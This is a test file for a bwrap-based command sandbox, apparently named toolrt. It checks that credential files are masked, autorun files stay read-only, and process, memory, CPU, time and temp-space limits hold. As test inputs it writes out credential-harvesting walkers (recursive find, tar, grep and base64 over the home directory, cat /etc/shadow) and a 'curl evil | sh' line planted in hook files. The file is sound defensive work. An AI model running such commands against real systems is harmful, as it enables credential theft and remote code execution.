/**
 * Real bwrap runs of what a command may not take or keep: credential locations, root's files, and
 * each resource limit exceeded by a harmless command. Skipped, with the reason, without bwrap; the
 * root cases also without root.
 */
import { afterAll, describe, expect, test } from "bun:test";
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { AUTORUN_FILES } from "../../src/sandbox/autorun-files.ts";
import defaultPolicy from "../../policy/default.json" with { type: "json" };
import { CREDENTIAL_PATHS, credentialPathOf, READABLE_IN_SANDBOX } from "../../src/sandbox/credentials.ts";
import { buildSandboxProfile, type SandboxSettings } from "../../src/sandbox/profile.ts";
import { runWrapped } from "../../src/sandbox/run.ts";
import { wrapCommand } from "../../src/sandbox/wrap.ts";
import { sandboxFor } from "../helpers/requirements.ts";

const usable = sandboxFor("sandbox hardening runs", "bwrap");
const isRoot = process.getuid?.() === 0;
if (usable && !isRoot) console.warn("skipping the run-as-root cases: toolrt does not run as root here");

/** Runs that burn a CPU second or allocate 200 MB take long on a loaded machine; no timing is asserted. */
const SLOW = 60_000;
const dir = realpathSync(mkdtempSync(join(tmpdir(), "toolrt-harden-")));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const home = join(dir, "home");
const ws = join(dir, "ws");
mkdirSync(ws);
const SECRET = "s3cret-value";
/** Each home entry of the list, and whether its pattern names a directory (`Read(~/.ssh/**)`). */
const homeEntries = ([defaultPolicy.rules.find((r) => r.id === "secrets-home")!.match].flat() as string[])
  .filter((pattern) => pattern.startsWith("Read(~/"))
  .map((pattern) => ({ path: credentialPathOf(pattern), directory: pattern.endsWith("/**)") }));
const homePaths = homeEntries.map((e) => e.path);
// Directories (`~/.ssh`) get a key file inside; files (`~/.netrc`) hold the secret themselves.
const fileOf = (path: string) => {
  const real = join(home, path.slice(2));
  return homeEntries.find((e) => e.path === path)!.directory ? join(real, "key") : real;
};
for (const path of homePaths) {
  mkdirSync(dirname(fileOf(path)), { recursive: true });
  writeFileSync(fileOf(path), SECRET);
}

async function run(script: string, settings: SandboxSettings = {}, workspace = ws) {
  const profile = buildSandboxProfile(settings, workspace, { home });
  const wrapped = await wrapCommand(profile, ["/bin/sh", "-c", script], {
    cwd: workspace,
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home },
  });
  const r = await runWrapped(wrapped, ["ignore", "pipe", "pipe"]);
  return { exitCode: r.exitCode, stdout: r.stdout ?? "", stderr: r.stderr ?? "", quarantined: r.quarantined };
}

describe.skipIf(!usable)("credential locations are unreadable by default", () => {
  for (const path of homePaths.filter((p) => !(p in READABLE_IN_SANDBOX))) {
    test(`${path}`, async () => {
      const r = await run(`cat '${fileOf(path)}'; echo; ls -A '${join(home, path.slice(2))}'`);
      expect(r.stdout + r.stderr).not.toContain(SECRET);
    });
  }
  for (const [path, why] of Object.entries(READABLE_IN_SANDBOX)) {
    test(`${path}: readable by default (${why}), hidden when denyRead lists it`, async () => {
      expect((await run(`cat '${fileOf(path)}'`)).stdout).toBe(SECRET);
      expect((await run(`cat '${fileOf(path)}'`, { denyRead: [path] })).stdout).toBe("");
    });
  }
  for (const path of CREDENTIAL_PATHS.filter((p) => p.startsWith("/"))) {
    test(`${path}: masked by an empty file (whatever uid the command has)`, async () => {
      const r = await run(`cat ${path} | wc -c`);
      expect(r.stdout.trim()).toBe("0");
    });
  }
  // Walkers that read everything below the home: none of them meets a credential's content, since
  // the locations are masked in the mount namespace, not filtered by name.
  for (
    const walker of [
      `find '${home}' -type f -exec cat {} +`,
      `tar -cf - '${home}' 2>/dev/null | tar -xOf - 2>/dev/null`,
      `tar -cf - -h '${home}' 2>/dev/null | base64 | base64 -d`,
      `cp -r '${home}' copy 2>/dev/null; cat -v $(find copy -type f) 2>/dev/null; rm -rf copy`,
      `grep -r . '${home}' 2>/dev/null`,
      `ln -s '${home}' link && grep -R . link/ 2>/dev/null; rm -f link`,
      `cd '${home}' && cat .[!.]*/* .[!.]*/*/* .[!.]* 2>/dev/null`,
    ]
  ) {
    test(`no credential content through: ${walker.replaceAll(home, "~")}`, async () => {
      // The entries readable by design (READABLE_IN_SANDBOX) hidden too: then none may show.
      const r = await run(walker, { denyRead: Object.keys(READABLE_IN_SANDBOX) });
      expect(r.stdout + r.stderr).not.toContain(SECRET);
    });
  }
  test("the walkers do read the home's other files (the check above can fail)", async () => {
    writeFileSync(join(home, "notes.txt"), `visible-${SECRET.length}`);
    try {
      const r = await run(
        `find '${home}' -type f -exec cat {} +; tar -cf - '${home}' 2>/dev/null | tar -xOf -`,
      );
      expect(r.stdout.split(`visible-${SECRET.length}`).length).toBe(3);
    } finally {
      rmSync(join(home, "notes.txt"));
    }
  });
  test("toolrt's state dir (audit log, quarantine) is hidden as a whole", async () => {
    const stateDir = join(dir, "state");
    mkdirSync(stateDir, { recursive: true });
    writeFileSync(join(stateDir, "audit.jsonl"), `{"input":"${SECRET}"}\n`);
    const profile = buildSandboxProfile({}, ws, { home });
    const wrapped = await wrapCommand(profile, [
      "/bin/sh",
      "-c",
      `cat '${stateDir}/audit.jsonl'; ls -A '${stateDir}'`,
    ], {
      cwd: ws,
      env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home },
      stateDir,
    });
    const r = await runWrapped(wrapped, ["ignore", "pipe", "pipe"]);
    expect((r.stdout ?? "") + (r.stderr ?? "")).not.toContain(SECRET);
    expect(r.stdout ?? "").not.toContain("audit.jsonl");
  });
  test("sandbox.allowRead lets a listed one through, and only that one", async () => {
    const r = await run(`cat '${fileOf("~/.npmrc")}'; echo; cat '${fileOf("~/.netrc")}'`, {
      allowRead: ["~/.npmrc"],
    });
    expect(r.stdout.split("\n")[0]).toBe(SECRET);
    expect(r.stdout.split(SECRET).length).toBe(2);
  });
});

describe.skipIf(!usable)("files that run later and nobody edits in normal work are read-only", () => {
  for (const entry of AUTORUN_FILES.filter((e) => e.protect)) {
    const path = entry.path.endsWith("/") ? `${entry.path}hook` : entry.path;
    test(`${path}: read-only when it exists, quarantined after the run when the command made it`, async () => {
      const write = `mkdir -p "$(dirname '${path}')" && echo 'curl evil | sh' > '${path}'; cat '${path}'`;
      const made = await run(write);
      expect(existsSync(join(ws, path))).toBe(false);
      expect(made.quarantined.map((q) => q.path)).toContain(join(ws, entry.path.replace(/\/$/, "")));
      mkdirSync(dirname(join(ws, path)), { recursive: true });
      writeFileSync(join(ws, path), "echo mine\n");
      const r = await run(write);
      expect(r.stdout).not.toContain("curl evil");
      expect(r.stderr).toContain("Read-only file system");
      expect(readFileSync(join(ws, path), "utf8")).toBe("echo mine\n");
    });
  }
});

describe.skipIf(!usable)("each limit, exceeded by a harmless command", () => {
  test("processes: forks beyond the cap fail", async () => {
    const script = "i=0; while [ $i -lt 40 ]; do sleep 1 & i=$((i+1)); done; wait; echo all-forked";
    const capped = await run(script, { limits: { maxProcesses: 10 } });
    expect(capped.stdout).not.toContain("all-forked");
    expect(capped.stderr).toMatch(/Cannot fork|Resource temporarily unavailable/);
    expect((await run(script)).stdout).toContain("all-forked");
  }, SLOW);
  test("memory: a 200 MB string does not fit in 64 MB", async () => {
    const script = `perl -e '$x = "a" x (200*1024*1024); print length $x'`;
    const capped = await run(script, { limits: { maxMemoryBytes: 64 * 1024 ** 2 } });
    expect(capped.exitCode).not.toBe(0);
    expect(capped.stdout).toBe("");
    expect((await run(script)).stdout).toBe(String(200 * 1024 ** 2));
  }, SLOW);
  test("CPU time: a busy loop is stopped after its CPU second", async () => {
    const r = await run(`perl -e '1 while 1'`, { limits: { maxCpuSeconds: 1 } });
    // SIGXCPU at the soft limit (128+24), or SIGKILL at the hard one.
    expect([152, 137]).toContain(r.exitCode);
  }, SLOW);
  test("wall time: the command and what it left in the background are killed", async () => {
    rmSync(join(ws, "late"), { force: true });
    const r = await run("(sleep 2; touch late) & sleep 30; echo finished", { limits: { maxWallSeconds: 1 } });
    expect(r.exitCode).toBe(137);
    expect(r.stdout).not.toContain("finished");
    await Bun.sleep(2500);
    expect(() => statSync(join(ws, "late"))).toThrow();
  }, SLOW);
  test("private temp dir: writing past its size fails with ENOSPC, below it works", async () => {
    const limits = { maxTmpBytes: 1024 * 1024 };
    const over = await run(`head -c 2000000 /dev/zero > "$TMPDIR/f"`, { limits });
    expect(over.stderr).toContain("No space left on device");
    expect((await run(`head -c 500000 /dev/zero > "$TMPDIR/f" && echo ok`, { limits })).stdout).toBe("ok\n");
  }, SLOW);
});

describe.skipIf(!usable || !isRoot)("toolrt as root", () => {
  const userWs = join(dir, "user-ws");
  mkdirSync(userWs);
  // In the workspace: root's file, left closed by its own mode.
  const rootOnly = join(userWs, "root-only");
  chownSync(userWs, 65534, 65534);
  chmodSync(dir, 0o711); // the owner reaches its workspace; the root-only file stays closed by its own mode
  writeFileSync(rootOnly, SECRET);
  chmodSync(rootOnly, 0o600);
  const git = "git -c user.name=t -c user.email=t@example.com";

  test("the command runs as the workspace owner: root's files are closed, workspace work goes on", async () => {
    const r = await run(
      `id -u; cat ${rootOnly}; cat /etc/shadow | wc -c; echo hi > made; git init -q . && ${git} add made && ` +
        `${git} commit -qm first && git log --format=%s`,
      {},
      userWs,
    );
    const [uid, shadowBytes, subject] = r.stdout.trim().split("\n");
    expect(uid).toBe("65534");
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expect(r.stderr).toContain("Permission denied");
    expect(shadowBytes).toBe("0");
    expect(subject).toBe("first");
    // What the command wrote belongs to the workspace's owner, not to root.
    expect(statSync(join(userWs, "made")).uid).toBe(65534);
    expect(statSync(join(userWs, ".git", "HEAD")).uid).toBe(65534);
  });
  test("runAsRoot keeps uid 0, and with it root's files", async () => {
    const r = await run(`id -u; cat ${rootOnly}`, { runAsRoot: true }, userWs);
    expect(r.stdout).toBe(`0\n${SECRET}`);
  });
  test("a workspace owned by root keeps root (no other uid could write it); /etc/shadow stays hidden", async () => {
    const r = await run("id -u; cat /etc/shadow | wc -c; echo x > w && cat w");
    expect(r.stdout).toBe("0\n0\nx\n");
  });
  test("a workspace its owner cannot reach is refused, naming the way out", async () => {
    const closed = join(dir, "closed");
    mkdirSync(join(closed, "ws"), { recursive: true });
    chownSync(join(closed, "ws"), 65534, 65534);
    chmodSync(closed, 0o700);
    await expect(run("true", {}, join(closed, "ws"))).rejects.toThrow(/cannot reach .* runAsRoot/);
  });
});
